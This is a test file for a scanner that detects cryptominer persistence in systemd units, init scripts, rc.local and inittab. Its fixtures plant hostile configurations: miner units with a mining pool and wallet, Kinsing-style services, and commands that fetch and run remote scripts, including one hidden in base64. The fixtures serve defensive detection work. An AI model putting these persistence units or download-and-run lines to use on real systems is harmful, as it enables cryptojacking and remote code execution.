/**
 * The services check over planted trees: the miner units of the brief (by name and by
 * what they run), enabled, aliased, masked, timer-started and drop-in units, rc.local,
 * init.d (Debian and RHEL layouts, packaged and not), inittab; exact rule ids,
 * severities, lines and families, the unit state in the message, remediation with
 * systemctl/rm/chattr, started programs recorded. A clean tree of stock Debian units
 * and init scripts (this machine's and the debootstrapped root's, when present) gives
 * nothing of medium severity or more; hostile unit files neither crash nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { existsSync } from 'node:fs';
import { cp, lstat, mkdir, readdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { servicesCheck } from '../../src/checks/services.js';
import type { Check, StartedFile } from '../../src/model/check.js';
import { severityRank } from '../../src/model/finding.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { fixture } from '../helpers/fixtures.js';

const run = promisify(execFile);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('stand-in\n')]);
const NETFIX_PAYLOAD = Buffer.from('wget -q -O- http://198.51.100.7/x.sh | sh').toString('base64');

const SSH_SERVICE = `[Unit]
Description=OpenBSD Secure Shell server
Documentation=man:sshd(8) man:sshd_config(5)
After=network.target auditd.service
ConditionPathExists=!/etc/ssh/sshd_not_to_be_run

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/usr/sbin/sshd -t
ExecReload=/bin/kill -HUP $MAINPID
KillMode=process
Restart=on-failure
RestartPreventExitStatus=255
Type=notify
RuntimeDirectory=sshd
RuntimeDirectoryMode=0755

[Install]
WantedBy=multi-user.target
Alias=sshd.service
`;

const CRON_INIT = `#!/bin/sh
### BEGIN INIT INFO
# Provides:          cron
# Required-Start:    $remote_fs $syslog $time
# Default-Start:     2 3 4 5
### END INIT INFO
PATH=/bin:/usr/bin:/sbin:/usr/sbin
DESC="cron daemon"
NAME=cron
DAEMON=/usr/sbin/cron
PIDFILE=/var/run/crond.pid
SCRIPTNAME=/etc/init.d/"$NAME"

test -f $DAEMON || exit 0

. /lib/lsb/init-functions

[ -r /etc/default/cron ] && . /etc/default/cron

case "$1" in
start)	log_daemon_msg "Starting periodic command scheduler" "cron"
	start_daemon -p $PIDFILE $DAEMON $EXTRA_OPTS
	log_end_msg $?
	;;
stop)	log_daemon_msg "Stopping periodic command scheduler" "cron"
	killproc -p $PIDFILE $DAEMON
	RETVAL=$?
	[ $RETVAL -eq 0 ] && [ -e "$PIDFILE" ] && rm -f $PIDFILE
	log_end_msg $RETVAL
	;;
*)	log_action_msg "Usage: /etc/init.d/cron {start|stop|status|restart|reload|force-reload}"
	exit 2
	;;
esac
exit 0
`;

/** Stock units and scripts; systemd's own units mention /tmp in settings that run nothing. */
const STOCK_FILES: Record<string, string> = {
  'lib/systemd/system/ssh.service': SSH_SERVICE,
  'lib/systemd/system/cron.service': `[Unit]
Description=Regular background program processing daemon
Documentation=man:cron(8)
After=remote-fs.target nss-user-lookup.target

[Service]
EnvironmentFile=-/etc/default/cron
ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS
IgnoreSIGPIPE=false
KillMode=process
Restart=on-failure
SyslogFacility=cron

[Install]
WantedBy=multi-user.target
`,
  'lib/systemd/system/tmp-cleaner.service': `[Unit]
Description=Cleanup of Temporary Directories
ConditionPathExists=/tmp/.X11-unix
RequiresMountsFor=/var/tmp

[Service]
Type=oneshot
PrivateTmp=yes
ReadWritePaths=/var/tmp /tmp/.ICE-unix
ExecStart=systemd-tmpfiles --clean
ExecStartPost=/bin/sh -c 'rm -rf /tmp/.old-* /var/tmp/.cache-old'
IOSchedulingClass=idle
`,
  'lib/systemd/system/getty@.service': `[Unit]
Description=Getty on %I

[Service]
ExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM
Type=idle
Restart=always

[Install]
WantedBy=getty.target
`,
  'etc/init.d/cron': CRON_INIT,
  'etc/rc.local': '#!/bin/sh -e\n#\n# rc.local\n#\n# By default this script does nothing.\n\nexit 0\n',
  'var/lib/dpkg/info/cron.list': '/etc/init.d/cron\n/lib/systemd/system/cron.service\n/usr/sbin/cron\n',
  'var/lib/dpkg/info/openssh-server.list': '/lib/systemd/system/ssh.service\n/usr/sbin/sshd\n',
};
const STOCK_LINKS: [string, string][] = [
  ['etc/systemd/system/multi-user.target.wants/ssh.service', '/lib/systemd/system/ssh.service'],
  ['etc/systemd/system/sshd.service', '/lib/systemd/system/ssh.service'],
  ['etc/systemd/system/multi-user.target.wants/cron.service', '/lib/systemd/system/cron.service'],
  ['etc/systemd/system/getty.target.wants/getty@tty1.service', '/lib/systemd/system/getty@.service'],
  ['etc/rc2.d/S01cron', '../init.d/cron'],
];

const INFECTED_FILES: Record<string, string | Buffer> = {
  'etc/systemd/system/A_li_yun_Duns.service': `[Unit]
Description=A_li_yun_Duns
After=network.target

[Service]
Type=simple
ExecStart=/opt/sysetmd/sysetmd --donate-level 1 -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
Restart=always

[Install]
WantedBy=multi-user.target
`,
  'opt/sysetmd/sysetmd': ELF,
  'lib/systemd/system/bot.service': '[Unit]\nDescription=bot\n\n[Service]\nExecStart=/etc/kinsing\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n',
  'etc/kinsing': ELF,
  'etc/systemd/system/sysetmd.service': '[Unit]\nDescription=System daemon\n\n[Service]\nExecStart=/usr/local/bin/sysetmd\n',
  'lib/systemd/system/monero.service': '[Service]\nExecStart=/tmp/.m/xmrig -c /tmp/.m/config.json\n[Install]\nWantedBy=multi-user.target\n',
  'etc/systemd/system/cgroupd.service': `[Service]
Environment="DIR=/opt/.cache"
ExecStartPre=-/bin/sh -c 'curl -fsSL http://198.51.100.7/p.sh | bash'
ExecStart=/usr/bin/env \\
    \${DIR}/run --quiet
PrivateTmp=yes
ConditionPathExists=/tmp/.ready
ReadWritePaths=/var/tmp/.state
`,
  'opt/.cache/run': ELF,
  'etc/systemd/system/cgroupd.timer': '[Timer]\nOnBootSec=60\n[Install]\nWantedBy=timers.target\n',
  'lib/systemd/system/systemd-deltaed.service': '[Service]\nExecStart=@/dev/shm/.d/deltaed systemd-deltaed\n',
  'etc/systemd/system/cron.service.d/override.conf': '[Service]\nExecStartPost=/root/.x/y\n',
  'etc/rc.local': '#!/bin/sh -e\nnohup /var/tmp/.ice-unix/kdevtmpfsi >/dev/null 2>&1 &\nexit 0\n',
  'var/tmp/.ice-unix/kdevtmpfsi': ELF,
  'etc/init.d/evil': [
    '#!/bin/sh',
    'DAEMON=/dev/shm/.x/miner',
    'case "$1" in',
    'start) start-stop-daemon --start --background --exec $DAEMON -- --donate-level 1 ;;',
    'esac',
    '',
  ].join('\n'),
  'etc/init.d/cron': `${CRON_INIT}/usr/bin/.sshd &\n`,
  'etc/inittab': 'id:2:initdefault:\nsi::sysinit:/etc/init.d/rcS\nx1:2345:respawn:/usr/lib/.x/kthreadd -o stratum+tcp://pool.example.org:3333\n',
  'etc/rc.d/init.d/netfix': `#!/bin/bash\necho ${NETFIX_PAYLOAD} | base64 -d | bash\n`,
  'etc/init.d/binary': ELF,
};
const INFECTED_LINKS: [string, string][] = [
  ['etc/systemd/system/multi-user.target.wants/A_li_yun_Duns.service', '../A_li_yun_Duns.service'],
  ['etc/systemd/system/multi-user.target.wants/monero.service', '/lib/systemd/system/monero.service'],
  ['etc/systemd/system/systemd-cgroup.service', 'cgroupd.service'],
  ['etc/systemd/system/timers.target.wants/cgroupd.timer', '../cgroupd.timer'],
  ['etc/systemd/system/systemd-deltaed.service', '/dev/null'],
  ['etc/rc2.d/S01evil', '../init.d/evil'],
];
const LOCKED = ['etc/systemd/system/A_li_yun_Duns.service'];
const CRON_INIT_BAD_LINE = CRON_INIT.split('\n').length;

type Row = [rule: string, severity: string, path: string, line: number | undefined, family: string | undefined];

const EXPECTED: Row[] = [
  ['aliyun-duns.command-line', 'critical', '/etc/systemd/system/A_li_yun_Duns.service', 2, 'aliyun-duns'],
  ['aliyun-duns.command-line', 'critical', '/etc/systemd/system/A_li_yun_Duns.service', 7, 'aliyun-duns'],
  ['command.miner', 'high', '/etc/systemd/system/A_li_yun_Duns.service', 7, undefined],
  ['aliyun-duns.unit-name', 'critical', '/etc/systemd/system/A_li_yun_Duns.service', undefined, 'aliyun-duns'],
  ['kinsing.command-line', 'critical', '/lib/systemd/system/bot.service', 5, 'kinsing'],
  ['kinsing.bot-service', 'high', '/lib/systemd/system/bot.service', undefined, 'kinsing'],
  ['aliyun-duns.unit-name', 'critical', '/etc/systemd/system/sysetmd.service', undefined, 'aliyun-duns'],
  ['service.known-bad-name', 'high', '/lib/systemd/system/monero.service', undefined, undefined],
  ['command.started-from-temp', 'high', '/lib/systemd/system/monero.service', 2, undefined],
  ['command.started-miner', 'high', '/lib/systemd/system/monero.service', 2, undefined],
  ['service.known-bad-name', 'high', '/etc/systemd/system/cgroupd.service', undefined, undefined],
  ['command.download-and-run', 'high', '/etc/systemd/system/cgroupd.service', 3, undefined],
  ['command.started-from-hidden', 'high', '/etc/systemd/system/cgroupd.service', 4, undefined],
  ['service.known-bad-name', 'high', '/lib/systemd/system/systemd-deltaed.service', undefined, undefined],
  ['command.started-from-temp', 'high', '/lib/systemd/system/systemd-deltaed.service', 2, undefined],
  ['command.started-from-hidden', 'high', '/etc/systemd/system/cron.service.d/override.conf', 2, undefined],
  ['kinsing.command-line', 'critical', '/etc/rc.local', 2, 'kinsing'],
  ['command.started-from-temp', 'high', '/etc/rc.local', 2, undefined],
  ['command.started-from-temp', 'high', '/etc/init.d/evil', 4, undefined],
  ['command.miner', 'high', '/etc/init.d/evil', 4, undefined],
  ['command.started-hidden-system-binary', 'high', '/etc/init.d/cron', CRON_INIT_BAD_LINE, undefined],
  ['command.started-from-hidden', 'high', '/etc/inittab', 3, undefined],
  ['command.miner', 'high', '/etc/inittab', 3, undefined],
  ['command.base64-to-shell', 'high', '/etc/rc.d/init.d/netfix', 2, undefined],
  ['command.download-and-run', 'high', '/etc/rc.d/init.d/netfix', 2, undefined],
  ['init.binary-script', 'high', '/etc/init.d/binary', undefined, undefined],
];

async function writeTree(root: string, files: Record<string, string | Buffer>, links: [string, string][]): Promise<void> {
  for (const [rel, content] of Object.entries(files)) {
    const file = path.join(root, rel);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, content, { mode: rel.includes('init.d') || rel.endsWith('rc.local') ? 0o755 : 0o644 });
  }
  for (const [rel, target] of links) {
    await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
    await symlink(target, path.join(root, rel));
  }
}

function startedCollector(): { check: Check; started: StartedFile[] } {
  const started: StartedFile[] = [];
  return {
    started,
    check: { id: 'collect-started', description: 'test helper', phase: 'combine', paths: [], run: async (ctx) => void started.push(...ctx.startedFiles()) },
  };
}

describe('services check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;
  let copied = 0;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-services-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await writeTree(infected, { ...STOCK_FILES, ...INFECTED_FILES }, [...STOCK_LINKS, ...INFECTED_LINKS]);
    for (const rel of LOCKED) await run('chattr', ['+i', path.join(infected, rel)]);

    await writeTree(clean, STOCK_FILES, STOCK_LINKS);
    // The units and init scripts of this machine and of the debootstrapped Debian root, when present.
    copied += await copyServiceFiles('/', clean);
    copied += await copyServiceFiles(fixture('debianRoot'), clean);

    const junk = Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 7919) % 256));
    await writeTree(
      hostile,
      {
        'etc/systemd/system/long.service': `[Service]\nExecStart=/bin/sh -c "${'$('.repeat(30_000)}"\n${'Description=x \\\n'.repeat(60_000)}\n`,
        'etc/systemd/system/junk.service': junk,
        'etc/init.d/junk': junk,
        'etc/inittab': `${'a:'.repeat(200_000)}\n`,
        'etc/rc.local': `curl ${'| '.repeat(300_000)}sh\n`,
      },
      [
        ['etc/systemd/system/loop-a.service', 'loop-b.service'],
        ['etc/systemd/system/loop-b.service', 'loop-a.service'],
        ['etc/systemd/system/multi-user.target.wants/gone.service', '/lib/systemd/system/gone.service'],
        ['etc/rc3.d/S01gone', '../init.d/gone'],
      ],
    );
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds every planted unit and init script indicator with its rule, severity, line and family', async () => {
    const result = await scanDirectory(infected, [servicesCheck]);
    expect(result.errors).toEqual([]);
    const key = (r: Row) => r.join('|');
    expect(result.findings.map((f): Row => [f.rule, f.severity, f.path, f.line, f.family]).map(key).sort()).toEqual(EXPECTED.map(key).sort());
    for (const f of result.findings) {
      expect(f.category).toBe(f.path.includes('/systemd/') ? 'persistence/systemd' : 'persistence/init');
      expect(f.remediation).toContain(f.path);
      expect(`${f.message}\n${f.remediation}`).not.toMatch(/\{[a-z]+\}/);
    }
  });

  it('says whether each unit is enabled, how, or masked', async () => {
    const { findings } = await scanDirectory(infected, [servicesCheck]);
    const message = (rule: string, p: string) => findings.find((f) => f.rule === rule && f.path === p)!.message;
    expect(message('aliyun-duns.unit-name', '/etc/systemd/system/A_li_yun_Duns.service')).toContain(
      '(unit A_li_yun_Duns.service, enabled via /etc/systemd/system/multi-user.target.wants/A_li_yun_Duns.service)',
    );
    expect(message('kinsing.bot-service', '/lib/systemd/system/bot.service')).toContain('(unit bot.service, not enabled)');
    expect(message('service.known-bad-name', '/lib/systemd/system/monero.service')).toMatch(/^systemd unit monero\.service .*enabled via \/etc\/systemd\/system\/multi-user\.target\.wants\/monero\.service/);
    // Found by its alias name; the unit itself is started by its timer.
    expect(message('service.known-bad-name', '/etc/systemd/system/cgroupd.service')).toMatch(/^systemd unit systemd-cgroup\.service .*\(unit cgroupd\.service, started by the enabled cgroupd\.timer\)/);
    expect(message('service.known-bad-name', '/lib/systemd/system/systemd-deltaed.service')).toContain('(unit systemd-deltaed.service, masked)');
    expect(message('command.started-from-hidden', '/etc/systemd/system/cron.service.d/override.conf')).toContain('drop-in of unit cron.service, which is enabled via');
    expect(message('command.started-from-hidden', '/etc/systemd/system/cgroupd.service')).toContain('starts /opt/.cache/run');
  });

  it('gives systemctl, rm and chattr remediation for units and fitting removal for init scripts', async () => {
    const { findings } = await scanDirectory(infected, [servicesCheck]);
    const fix = (rule: string, p: string, line?: number) =>
      findings.find((f) => f.rule === rule && f.path === p && f.line === line)!.remediation.split('\n');

    expect(fix('aliyun-duns.unit-name', '/etc/systemd/system/A_li_yun_Duns.service').slice(0, 5)).toEqual([
      'chattr -ia /etc/systemd/system/A_li_yun_Duns.service   # it is immutable',
      'systemctl disable --now A_li_yun_Duns.service',
      'rm -f /etc/systemd/system/A_li_yun_Duns.service /etc/systemd/system/multi-user.target.wants/A_li_yun_Duns.service',
      'systemctl daemon-reload',
      'rm -f /opt/sysetmd/sysetmd   # the program it starts',
    ]);
    expect(fix('service.known-bad-name', '/etc/systemd/system/cgroupd.service')).toContain(
      'rm -f /etc/systemd/system/cgroupd.service /etc/systemd/system/systemd-cgroup.service',
    );
    expect(fix('service.known-bad-name', '/lib/systemd/system/systemd-deltaed.service')).toContain(
      'rm -f /lib/systemd/system/systemd-deltaed.service /etc/systemd/system/systemd-deltaed.service',
    );
    expect(fix('command.started-from-hidden', '/etc/systemd/system/cron.service.d/override.conf', 2).slice(0, 2)).toEqual([
      'rm -f /etc/systemd/system/cron.service.d/override.conf',
      'systemctl daemon-reload && systemctl restart cron.service',
    ]);
    expect(fix('kinsing.command-line', '/etc/rc.local', 2)).toEqual(
      expect.arrayContaining([
        "sed -i '2d' /etc/rc.local   # deletes line 2: nohup /var/tmp/.ice-unix/kdevtmpfsi >/dev/null 2>&1 &",
        'rm -f /var/tmp/.ice-unix/kdevtmpfsi   # the program it starts',
      ]),
    );
    expect(fix('command.miner', '/etc/init.d/evil', 4).slice(0, 2)).toEqual([
      'update-rc.d -f evil remove 2>/dev/null || chkconfig --del evil',
      'rm -f /etc/init.d/evil   # no package owns this init script',
    ]);
    expect(fix('command.started-hidden-system-binary', '/etc/init.d/cron', CRON_INIT_BAD_LINE)[0]).toMatch(/^apt-get install --reinstall cron /);
    expect(fix('command.miner', '/etc/inittab', 3).slice(0, 2)).toEqual([
      "sed -i '3d' /etc/inittab   # deletes line 3: x1:2345:respawn:/usr/lib/.x/kthreadd -o stratum+tcp://pool.example.org:3333",
      'init q   # makes init read inittab again',
    ]);
  });

  it('reads a decoded payload and a script reached through rc?.d links once', async () => {
    const { findings } = await scanDirectory(infected, [servicesCheck]);
    expect(findings.find((f) => f.rule === 'command.download-and-run' && f.path === '/etc/rc.d/init.d/netfix')!.evidence).toBe(
      'base64-decoded: wget -q -O- http://198.51.100.7/x.sh | sh',
    );
    expect(findings.filter((f) => f.path.startsWith('/etc/rc2.d/'))).toEqual([]);
  });

  it('records each program a unit or init script starts for the hash check', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [servicesCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: '/opt/sysetmd/sysetmd', startedBy: '/etc/systemd/system/A_li_yun_Duns.service:7' },
        { path: '/etc/kinsing', startedBy: '/lib/systemd/system/bot.service:5' },
        { path: '/usr/bin/env', startedBy: '/etc/systemd/system/cgroupd.service:4' },
        { path: '/opt/.cache/run', startedBy: '/etc/systemd/system/cgroupd.service:4' },
        { path: '/dev/shm/.d/deltaed', startedBy: '/lib/systemd/system/systemd-deltaed.service:2' },
        { path: '/var/tmp/.ice-unix/kdevtmpfsi', startedBy: '/etc/rc.local:2' },
        { path: '/dev/shm/.x/miner', startedBy: '/etc/init.d/evil:4' },
        { path: '/usr/sbin/sshd', startedBy: '/lib/systemd/system/ssh.service:10' },
      ]),
    );
    // Settings that name /tmp run nothing.
    const paths = collector.started.map((s) => s.path);
    for (const notRun of ['/tmp/.ready', '/var/tmp/.state', '/tmp/.X11-unix']) expect(paths).not.toContain(notRun);
  });

  it('finds nothing of medium severity or more in stock Debian units and init scripts', async () => {
    const result = await scanDirectory(clean, [servicesCheck]);
    expect(result.errors).toEqual([]);
    const loud = result.findings.filter((f) => severityRank(f.severity) >= severityRank('medium'));
    expect(loud).toEqual([]);
    expect(result.filesExamined).toBeGreaterThanOrEqual(6 + copied);
    // On a Debian machine the real units were copied in, not only the stock set above.
    if (existsSync('/lib/systemd/system/systemd-journald.service')) expect(copied).toBeGreaterThan(50);
  });

  it('reads hostile unit files and scripts without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [servicesCheck], { maxOperations: 800 });
    expect(result.errors).toEqual([]);
  });
});

/**
 * Copies unit files (with their enablement links, verbatim) and init scripts of a system
 * root into the clean tree; returns how many regular files it copied.
 */
async function copyServiceFiles(source: string, dest: string): Promise<number> {
  let files = 0;
  const copyDir = async (rel: string, filter: (name: string) => boolean) => {
    const from = path.join(source, rel);
    const names = await readdir(from).catch(() => [] as string[]);
    for (const name of names) {
      if (!filter(name)) continue;
      const target = path.join(dest, rel, name);
      try {
        await lstat(target);
        continue; // the stock set already has it
      } catch {
        // not there yet
      }
      await mkdir(path.dirname(target), { recursive: true });
      await cp(path.join(from, name), target, { recursive: true, verbatimSymlinks: true });
      if ((await lstat(target)).isFile()) files++;
    }
  };
  const units = (n: string) => /\.(?:service|socket|timer|path|mount|target)$/.test(n) || n.endsWith('.wants') || n.endsWith('.d');
  for (const dir of ['lib/systemd/system', 'usr/lib/systemd/system', 'etc/systemd/system']) await copyDir(dir, units);
  await copyDir('etc/init.d', () => true);
  return files;
}
